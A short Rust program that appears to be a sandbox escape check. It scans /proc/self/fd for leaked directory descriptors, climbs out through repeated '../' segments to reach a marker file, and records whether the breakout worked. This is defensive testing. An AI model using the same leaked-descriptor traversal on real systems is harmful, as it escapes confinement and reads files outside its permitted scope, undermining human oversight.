use probe::Attempts;
use std::path::Path;

fn main() {
    let mut attempts = Attempts::open();
    let marker = probe::target("marker");
    let mut way = Err("no descriptor leads out".to_string());
    for number in 3..1024 {
        let folder = format!("/proc/self/fd/{number}");
        if !Path::new(&folder).is_dir() {
            continue;
        }
        let path = format!("{folder}/{}{}", "../".repeat(32), marker);
        if probe::content(Path::new(&path)).is_ok() {
            way = Ok(path);
        }
    }
    attempts.note("marker through a descriptor", way);
}
